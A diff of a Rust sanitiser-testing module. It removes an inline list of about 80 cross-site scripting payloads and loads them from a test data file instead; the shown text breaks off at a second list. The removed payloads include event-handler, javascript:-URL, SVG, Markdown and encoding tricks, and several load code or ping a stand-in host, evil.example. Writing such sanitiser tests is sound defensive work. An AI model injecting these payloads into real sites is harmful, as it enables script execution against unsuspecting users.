@@ -1,86 +1,26 @@
 //! Markup that has carried scripts past sanitisers, and pieces to build more of it.
 
-pub(super) const PAYLOADS: &[&str] = &[
-    "<script>alert(1)</script>",
-    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
-    "<scr<script>ipt>alert(1)</scr</script>ipt>",
-    "<img src=x onerror=alert(1)>",
-    "<img src=\"javascript:alert(1)\">",
-    "<img/src=x/onerror=alert(1)//",
-    "<img src=x alt=\"><script>alert(1)</script>\">",
-    "<img src=`x` onerror=alert(1)>",
-    "<svg onload=alert(1)>",
-    "<svg><script>alert(1)</script></svg>",
-    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
-    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
-    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
-    "<svg><style><img src=x onerror=alert(1)></style></svg>",
-    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
-    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
-    "<math href=\"javascript:alert(1)\">x</math>",
-    "<iframe src=\"javascript:alert(1)\"></iframe>",
-    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
-    "<object data=\"javascript:alert(1)\"></object>",
-    "<embed src=\"javascript:alert(1)\">",
-    "<applet code=x></applet>",
-    "<form action=\"javascript:alert(1)\"><input type=submit></form>",
-    "<button formaction=javascript:alert(1)>x</button>",
-    "<input onfocus=alert(1) autofocus>",
-    "<input type=image src=x onerror=alert(1)>",
-    "<isindex action=j&Tab;a&Tab;vas&Tab;c&Tab;r&Tab;ipt:alert(1) type=image>",
-    "<select autofocus onfocus=alert(1)><option>x</select>",
-    "<textarea autofocus onfocus=alert(1)>x</textarea>",
-    "<video src=x onerror=alert(1)></video>",
-    "<video poster=\"javascript:alert(1)\"></video>",
-    "<video><source onerror=\"alert(1)\"></video>",
-    "<audio src=\"data:audio/mp3,x\" onloadstart=alert(1)></audio>",
-    "<details open ontoggle=alert(1)>x</details>",
-    "<marquee onstart=alert(1)>x</marquee>",
-    "<body onload=alert(1)>",
-    "<html onclick=alert(1)>x",
-    "<base href=\"//evil.example/\">",
-    "<link rel=stylesheet href=\"//evil.example/x.css\">",
-    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
-    "<style>@import '//evil.example/x.css';</style>",
-    "<div style=\"background:url(javascript:alert(1))\">x</div>",
-    "<p style=\"position:fixed;inset:0\">x</p>",
-    "<a href=\"javascript:alert(1)\">x</a>",
-    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
-    "<a href=\" &#14;  javascript:alert(1)\">x</a>",
-    "<a href=\"java\nscript:alert(1)\">x</a>",
-    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
-    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
-    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
-    "<a href=\"vbscript:msgbox(1)\">x</a>",
-    "<a href=x onclick=alert(1) target=_blank>x</a>",
-    "<a href=\"https://a.example\" ping=\"https://evil.example\">x</a>",
-    "<a id=content href=#>x</a><p id=toc>y</p>",
-    "[x](javascript:alert(1))",
-    "[x](<java script:alert(1)>)",
-    "[x](data:text/html;base64,PHNjcmlwdD4=)",
-    "[x](JAVASCRIPT&#58;alert(1))",
-    "![x](javascript:alert(1))",
-    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
-    "![\"onerror=\"alert(1)](x)",
-    "![x](x \"\\\"onerror=alert(1)\")",
-    "[x]: javascript:alert(1)\n\n[x]",
-    "<javascript:alert(1)>",
-    "```\"><script>alert(1)</script>\ncode\n```",
-    "```rust\n</code></pre><script>alert(1)</script>\n```",
-    "# <img src=x onerror=alert(1)> {#\"><script>}",
-    "# \"><script>alert(1)</script>",
-    "| <script>alert(1)</script> |\n|-|\n| <b onclick=x>y</b> |",
-    "x[^\"><script>alert(1)</script>]\n\n[^\"><script>alert(1)</script>]: y",
-    "> [!NOTE] <script>alert(1)</script>\n> <b onclick=alert(1)>x</b>",
-    "<!--><script>alert(1)</script>-->",
-    "<![CDATA[<script>alert(1)</script>]]>",
-    "<?php <script>alert(1)</script> ?>",
-    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
-    "<template><script>alert(1)</script></template>",
-    "<title><script>alert(1)</script></title>",
-    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
-    "<b class=\"admin-bar\" onmouseover=alert(1)>x</b>",
-];
+/// The lines of the file that says more of them; there are pictures of control characters in it, `{U+202E}` stands for
+/// the character.
+pub(super) fn payloads() -> Vec<String> {
+    let file = include_str!("../../../../tests/payloads/xss.txt");
+    let control = |c: char| match u32::from(c) {
+        picture @ 0x2401..=0x241f => char::from_u32(picture - 0x2400).unwrap(),
+        _ => c,
+    };
+    let decoded = |line: &str| {
+        let mut parts = line.split("{U+");
+        let mut text: String = parts.next().unwrap_or_default().to_owned();
+        for part in parts {
+            let (number, after) = part.split_once('}').unwrap();
+            text.push(char::from_u32(u32::from_str_radix(number, 16).unwrap()).unwrap());
+            text.push_str(after);
+        }
+        text.chars().map(control).collect()
+    };
+    let lines = file.lines().filter(|line| !line.is_empty() && !line.starts_with("%%")).skip(2);
+    lines.map(decoded).collect()
+}
 
 pub(super) const PIECES: &[&str] = &[
     "a",
